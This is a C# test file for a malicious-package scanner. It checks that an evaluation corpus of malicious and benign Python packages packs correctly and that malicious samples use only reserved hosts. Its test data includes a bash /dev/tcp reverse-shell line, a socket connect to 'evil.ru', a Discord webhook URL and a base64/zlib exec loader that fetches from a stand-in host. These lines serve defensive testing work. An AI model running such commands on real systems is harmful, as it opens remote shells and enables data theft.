using System.Formats.Tar;
using System.IO.Compression;
using System.Net;
using System.Security.Cryptography;
using System.Text;
using System.Text.RegularExpressions;
using Moat.Packaging;
using Moat.Testing;
using Tomlyn;
using Tomlyn.Model;

namespace Moat.Analysis.Tests.Code;

/// <summary>
/// The scanner's evaluation corpus (tests/fixtures/code/corpus) is well formed: every sample packs into a real sdist or
/// wheel, carries its provenance, and every malicious sample is defanged — including hosts hidden in encoded layers
/// and Fernet tokens, which must decrypt with a key found in the same sample.
/// </summary>
public sealed partial class CorpusShapeTests : IDisposable
{
    private static readonly string CorpusRoot = TestPaths.Fixtures("code", "corpus");

    /// <summary>The categories README.md documents. Every sample uses one; every one has samples.</summary>
    private static readonly string[] MaliciousCategories =
    [
        "setup-module-level", "setup-cmdclass", "import-time", "pth-startup", "entry-point", "fernet-payload",
        "layered-encoding", "obfuscated-strings", "webhook-exfil", "browser-stealer", "wallet-stealer",
        "discord-token-stealer", "credential-file-theft", "env-harvest", "persistence", "download-execute",
        "reverse-shell", "steganography", "typosquat-metadata", "bundled-executable", "cryptominer", "patched-release",
    ];

    private static readonly string[] BenignCategories =
    [
        "c-extension", "scm-versioning", "setup-reads-files", "api-client", "telemetry", "base64-data", "crypto-usage",
        "subprocess-cli", "pth-path", "pytest-plugin", "download-cache", "config-writer", "credential-helper",
        "ssh-config", "windows-registry", "generated-code", "embedded-data", "build-backend", "plugin-loader",
        "network-tool", "build-hooks", "console-script",
    ];

    private readonly string _output = Path.Combine(Path.GetTempPath(), "moat-corpus-" + Guid.NewGuid().ToString("N"));

    public void Dispose()
    {
        if (Directory.Exists(_output)) Directory.Delete(_output, recursive: true);
    }

    public static TheoryData<string, string> Samples()
    {
        var data = new TheoryData<string, string>();
        foreach (var kind in new[] { "malicious", "benign" })
        {
            foreach (var dir in Directory.EnumerateDirectories(Path.Combine(CorpusRoot, kind)).Order(StringComparer.Ordinal))
                data.Add(kind, Path.GetFileName(dir));
        }
        return data;
    }

    public static TheoryData<string> MaliciousSamples()
    {
        var data = new TheoryData<string>();
        foreach (var dir in Directory.EnumerateDirectories(Path.Combine(CorpusRoot, "malicious")).Order(StringComparer.Ordinal))
            data.Add(Path.GetFileName(dir));
        return data;
    }

    [Fact]
    public void Corpus_holds_at_least_90_samples_of_each_kind_across_every_documented_category()
    {
        foreach (var (kind, categories) in new[] { ("malicious", MaliciousCategories), ("benign", BenignCategories) })
        {
            var samples = Directory.EnumerateDirectories(Path.Combine(CorpusRoot, kind))
                .Select(FixturePacker.ReadSample).ToList();
            Assert.True(samples.Count >= 90, $"{kind}: {samples.Count} samples, want at least 90");
            var byCategory = samples.GroupBy(s => s.Category).ToDictionary(g => g.Key, g => g.Count());
            Assert.Empty(byCategory.Keys.Except(categories));
            foreach (var category in categories)
                Assert.True(byCategory.GetValueOrDefault(category) >= 2, $"{kind}/{category}: fewer than 2 samples");
            Assert.Equal(samples.Count, samples.Select(s => ProjectName.Normalize(s.Name) + "==" + s.Version).Distinct().Count());
        }
    }

    [Theory]
    [MemberData(nameof(Samples))]
    public void Sample_toml_is_real_toml_and_matches_the_package_metadata(string kind, string id)
    {
        var dir = Path.Combine(CorpusRoot, kind, id);
        var text = File.ReadAllText(Path.Combine(dir, FixturePacker.SampleFile));
        var model = TomlSerializer.Deserialize<TomlTable>(text)!;
        var sample = FixturePacker.ReadSample(dir);
        foreach (var (key, value) in sample.Fields) Assert.Equal(value, Assert.IsType<string>(model[key]));
        Assert.Equal(sample.Fields.Count, model.Count);

        Assert.True(ProjectName.IsValid(sample.Name), $"invalid project name {sample.Name}");
        Assert.Matches(Pep440(), sample.Version);
        Assert.Contains(sample.Format, new[] { "sdist", "wheel" });
        var provenance = kind == "malicious" ? "modelled_on" : "resembles";
        Assert.True(sample.Fields.TryGetValue(provenance, out var source) && source.Length > 10, $"{id}: {provenance} missing");

        var metadataPath = sample.Format == "sdist"
            ? Path.Combine(dir, "PKG-INFO")
            : Path.Combine(dir, FixturePacker.DistInfoDirectory(sample.Name, sample.Version), "METADATA");
        var headers = File.ReadLines(metadataPath).TakeWhile(l => l.Length > 0).ToList();
        Assert.Contains("Name: " + sample.Name, headers);
        Assert.Contains("Version: " + sample.Version, headers);
        Assert.Contains(headers, h => h.StartsWith("Metadata-Version: ", StringComparison.Ordinal));
    }

    [Theory]
    [MemberData(nameof(Samples))]
    public void Sample_packs_into_a_readable_reproducible_archive_with_a_standard_file_name(string kind, string id)
    {
        var dir = Path.Combine(CorpusRoot, kind, id);
        var sample = FixturePacker.ReadSample(dir);
        var archive = FixturePacker.Pack(dir, Path.Combine(_output, "a"));
        var again = FixturePacker.Pack(dir, Path.Combine(_output, "b"));
        Assert.Equal(File.ReadAllBytes(archive), File.ReadAllBytes(again));

        var expected = FixturePacker.ContentFiles(dir).ToDictionary(f => f.RelativePath, f => File.ReadAllBytes(f.FullPath));
        var fileName = Path.GetFileName(archive);
        if (sample.Format == "sdist")
        {
            Assert.Matches(SdistName(), fileName);
            var top = fileName[..^".tar.gz".Length] + "/";
            var actual = ReadTarGz(archive);
            Assert.All(actual.Keys, name => Assert.StartsWith(top, name, StringComparison.Ordinal));
            Assert.True(actual.ContainsKey(top + "PKG-INFO"));
            Assert.Equal(expected.Keys.Order(StringComparer.Ordinal), actual.Keys.Select(k => k[top.Length..]).Order(StringComparer.Ordinal));
            foreach (var (rel, bytes) in expected) Assert.Equal(bytes, actual[top + rel]);
        }
        else
        {
            Assert.Matches(WheelName(), fileName);
            AssertWheelRecordVerifies(archive, FixturePacker.DistInfoDirectory(sample.Name, sample.Version));
        }
    }

    [Theory]
    [MemberData(nameof(MaliciousSamples))]
    public void Malicious_sample_is_defanged_in_every_layer_and_its_fernet_tokens_decrypt(string id)
    {
        var dir = Path.Combine(CorpusRoot, "malicious", id);
        var texts = FixturePacker.ContentFiles(dir).Select(f => (f.RelativePath, Text: Encoding.Latin1.GetString(File.ReadAllBytes(f.FullPath)))).ToList();
        var keys = texts.SelectMany(t => FernetKey().Matches(t.Text).Select(m => m.Value)).Distinct().ToList();
        var offending = new List<string>();
        foreach (var (rel, text) in texts)
        {
            foreach (Match token in FernetToken().Matches(text))
            {
                var plain = keys.Select(k => FernetDecrypt(k, token.Value)).FirstOrDefault(p => p is not null);
                Assert.True(plain is not null, $"{rel}: Fernet token {token.Value[..20]}… does not decrypt with any key in the sample");
                CollectUndefangedHosts(rel + " (fernet)", Encoding.Latin1.GetString(plain!), depth: 0, offending);
            }
            CollectUndefangedHosts(rel, text, depth: 0, offending);
        }
        Assert.True(offending.Count == 0, "real hosts in a malicious sample: " + string.Join("; ", offending.Distinct()));
    }

    [Theory]
    [InlineData("https://discord.com.invalid/api/webhooks/1/x", true)]
    [InlineData("http://203.0.113.7:8080/p", true)]
    [InlineData("https://cdn.example.com/x.exe", true)]
    [InlineData("https://discord.com/api/webhooks/1/x", false)]
    [InlineData("http://45.11.19.2/p", false)]
    [InlineData("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", false)]
    [InlineData("s.connect((\"evil.ru\", 4444))", false)]
    public void Defang_check_accepts_only_reserved_hosts(string text, bool defanged)
    {
        var offending = new List<string>();
        CollectUndefangedHosts("t", text, 0, offending);
        Assert.Equal(defanged, offending.Count == 0);
    }

    [Fact]
    public void Defang_check_sees_hosts_inside_base64_zlib_layers()
    {
        var inner = Convert.ToBase64String(Encoding.ASCII.GetBytes("urllib.request.urlopen('https://evil.example.net.ru/x')"));
        using var buffer = new MemoryStream();
        using (var z = new ZLibStream(buffer, CompressionLevel.Optimal, leaveOpen: true)) z.Write(Encoding.ASCII.GetBytes("exec(b64decode('" + inner + "'))"));
        var offending = new List<string>();
        CollectUndefangedHosts("t", "exec(zlib.decompress(base64.b64decode('" + Convert.ToBase64String(buffer.ToArray()) + "')))", 0, offending);
        Assert.Single(offending.Distinct());
    }

    private static Dictionary<string, byte[]> ReadTarGz(string path)
    {
        var files = new Dictionary<string, byte[]>(StringComparer.Ordinal);
        using var gzip = new GZipStream(File.OpenRead(path), CompressionMode.Decompress);
        using var reader = new TarReader(gzip);
        while (reader.GetNextEntry() is { } entry)
        {
            if (entry.EntryType == TarEntryType.Directory) continue;
            Assert.Equal(TarEntryType.RegularFile, entry.EntryType);
            using var data = new MemoryStream();
            entry.DataStream?.CopyTo(data);
            files.Add(entry.Name, data.ToArray());
        }
        return files;
    }

    private static void AssertWheelRecordVerifies(string wheel, string distInfo)
    {
        using var zip = ZipFile.OpenRead(wheel);
        var entries = zip.Entries.ToDictionary(e => e.FullName, e =>
        {
            using var s = e.Open();
            using var m = new MemoryStream();
            s.CopyTo(m);
            return m.ToArray();
        });
        Assert.True(entries.ContainsKey(distInfo + "/METADATA"));
        Assert.True(entries.ContainsKey(distInfo + "/WHEEL"));
        var record = Encoding.UTF8.GetString(entries[distInfo + "/RECORD"]).Split('\n', StringSplitOptions.RemoveEmptyEntries);
        var listed = new HashSet<string>(StringComparer.Ordinal);
        foreach (var line in record)
        {
            var parts = line.Split(',');
            Assert.Equal(3, parts.Length);
            Assert.True(listed.Add(parts[0]), $"{parts[0]} listed twice in RECORD");
            Assert.True(entries.ContainsKey(parts[0]), $"RECORD lists {parts[0]}, absent from the wheel");
            if (parts[0] == distInfo + "/RECORD")
            {
                Assert.Equal(["", ""], parts[1..]);
                continue;
            }
            var bytes = entries[parts[0]];
            var digest = Convert.FromBase64String(ToStandardBase64(parts[1]["sha256=".Length..]));
            Assert.StartsWith("sha256=", parts[1], StringComparison.Ordinal);
            Assert.Equal(SHA256.HashData(bytes), digest);
            Assert.Equal(bytes.Length.ToString(System.Globalization.CultureInfo.InvariantCulture), parts[2]);
        }
        Assert.Equal(entries.Keys.Order(StringComparer.Ordinal), listed.Order(StringComparer.Ordinal));
    }

    private static string ToStandardBase64(string urlsafe)
    {
        var s = urlsafe.Replace('-', '+').Replace('_', '/');
        return s + new string('=', (4 - s.Length % 4) % 4);
    }

    /// <summary>Decrypts a Fernet token (version 0x80, HMAC-SHA256 then AES-128-CBC), or null if the key does not fit.</summary>
    private static byte[]? FernetDecrypt(string key, string token)
    {
        byte[] k, t;
        try
        {
            k = Convert.FromBase64String(ToStandardBase64(key));
            t = Convert.FromBase64String(ToStandardBase64(token));
        }
        catch (FormatException)
        {
            return null;
        }
        if (k.Length != 32 || t.Length < 1 + 8 + 16 + 16 + 32 || t[0] != 0x80) return null;
        var mac = HMACSHA256.HashData(k.AsSpan(0, 16), t.AsSpan(0, t.Length - 32));
        if (!CryptographicOperations.FixedTimeEquals(mac, t.AsSpan(t.Length - 32))) return null;
        using var aes = Aes.Create();
        aes.Key = k[16..];
        return aes.DecryptCbc(t.AsSpan(25, t.Length - 25 - 32), t.AsSpan(9, 16));
    }

    /// <summary>
    /// Finds URL hosts, /dev/tcp hosts and (host, port) tuples in the text, its rot13 and its reverse, then in every
    /// base64/hex literal decoded (and zlib/gzip-inflated), a few layers deep.
    /// </summary>
    private static void CollectUndefangedHosts(string where, string text, int depth, List<string> offending)
    {
        if (depth > 4) return;
        var rot13 = new string(text.Select(Rot13).ToArray());
        var reversed = new string(text.Reverse().ToArray());
        foreach (var view in new[] { text, rot13, reversed })
        {
            foreach (var regex in new[] { UrlHost(), DevTcpHost(), HostPortTuple() })
            {
                foreach (Match m in regex.Matches(view))
                {
                    var host = m.Groups["host"].Value;
                    if (!IsDefanged(host)) offending.Add($"{where}: {host}");
                }
            }
        }
        foreach (Match literal in Base64Literal().Matches(text))
        {
            foreach (var candidate in new[] { literal.Value, new string(literal.Value.Reverse().ToArray()) })
            {
                if (TryBase64(candidate) is { } bytes) CollectUndefangedHosts(where + " (base64)", Encoding.Latin1.GetString(Inflate(bytes)), depth + 1, offending);
            }
        }
        foreach (Match literal in HexLiteral().Matches(text))
        {
            var bytes = Convert.FromHexString(literal.Value.Replace("\\x", "", StringComparison.Ordinal));
            CollectUndefangedHosts(where + " (hex)", Encoding.Latin1.GetString(Inflate(bytes)), depth + 1, offending);
        }
    }

    private static bool IsDefanged(string host)
    {
        host = host.TrimEnd('.').ToLowerInvariant();
        if (host.EndsWith(".invalid", StringComparison.Ordinal) || host is "localhost" or "0.0.0.0") return true;
        foreach (var reserved in new[] { "example.com", "example.org", "example.net" })
        {
            if (host == reserved || host.EndsWith("." + reserved, StringComparison.Ordinal)) return true;
        }
        if (IPAddress.TryParse(host, out var ip) && host.Count(c => c == '.') == 3)
        {
            var b = ip.GetAddressBytes();
            // Documentation ranges (RFC 5737), loopback, and link-local (the cloud metadata service a stealer queries,
            // never an attacker's host).
            return (b[0], b[1], b[2]) is (192, 0, 2) or (198, 51, 100) or (203, 0, 113) || b[0] == 127 || (b[0], b[1]) is (169, 254);
        }
        return false;
    }

    private static byte[]? TryBase64(string s)
    {
        s = s.Replace('-', '+').Replace('_', '/').TrimEnd('=');
        if (s.Length % 4 == 1) return null;
        var padded = s + new string('=', (4 - s.Length % 4) % 4);
        try
        {
            return Convert.FromBase64String(padded);
        }
        catch (FormatException)
        {
            return null;
        }
    }

    /// <summary>Inflates zlib or gzip data (bounded to 4 MB); anything else comes back unchanged.</summary>
    private static byte[] Inflate(byte[] bytes)
    {
        Stream? decoder = bytes switch
        {
            [0x78, _, ..] => new ZLibStream(new MemoryStream(bytes), CompressionMode.Decompress),
            [0x1f, 0x8b, ..] => new GZipStream(new MemoryStream(bytes), CompressionMode.Decompress),
            _ => null,
        };
        if (decoder is null) return bytes;
        try
        {
            using (decoder)
            {
                var buffer = new byte[4 << 20];
                var total = 0;
                int read;
                while (total < buffer.Length && (read = decoder.Read(buffer, total, buffer.Length - total)) > 0) total += read;
                return buffer[..total];
            }
        }
        catch (InvalidDataException)
        {
            return bytes;
        }
    }

    private static char Rot13(char c) => c switch
    {
        >= 'a' and <= 'z' => (char)('a' + (c - 'a' + 13) % 26),
        >= 'A' and <= 'Z' => (char)('A' + (c - 'A' + 13) % 26),
        _ => c,
    };

    [GeneratedRegex(@"(?i)\b(?:https?|ftp|wss?|tcp)://(?:[^@/\s'""]*@)?(?<host>[a-z0-9][a-z0-9.\-]*)")]
    private static partial Regex UrlHost();

    [GeneratedRegex(@"/dev/(?:tcp|udp)/(?<host>[A-Za-z0-9.\-]+)/")]
    private static partial Regex DevTcpHost();

    [GeneratedRegex(@"\(\s*[bu]?['""](?<host>[A-Za-z0-9\-]+(?:\.[A-Za-z0-9\-]+)+)['""]\s*,\s*\d{2,5}\s*\)")]
    private static partial Regex HostPortTuple();

    [GeneratedRegex(@"[A-Za-z0-9+/_\-]{24,}={0,2}")]
    private static partial Regex Base64Literal();

    [GeneratedRegex(@"(?:[0-9a-fA-F]{2}){16,}|(?:\\x[0-9a-fA-F]{2}){16,}")]
    private static partial Regex HexLiteral();

    [GeneratedRegex(@"(?<![A-Za-z0-9_\-+/])gAAAAA[A-Za-z0-9_\-]{60,}={0,2}")]
    private static partial Regex FernetToken();

    [GeneratedRegex(@"(?<![A-Za-z0-9_\-])[A-Za-z0-9_\-]{43}=")]
    private static partial Regex FernetKey();

    [GeneratedRegex(@"^[a-z0-9]+(?:_[a-z0-9]+)*-[0-9][A-Za-z0-9.+!]*\.tar\.gz$")]
    private static partial Regex SdistName();

    [GeneratedRegex(@"^[a-z0-9]+(?:_[a-z0-9]+)*-[0-9][A-Za-z0-9.+!]*-py3-none-any\.whl$")]
    private static partial Regex WheelName();

    [GeneratedRegex(@"^([1-9][0-9]*!)?(0|[1-9][0-9]*)(\.(0|[1-9][0-9]*))*((a|b|rc)(0|[1-9][0-9]*))?(\.post(0|[1-9][0-9]*))?(\.dev(0|[1-9][0-9]*))?(\+[a-z0-9]+(\.[a-z0-9]+)*)?$")]
    private static partial Regex Pep440();
}
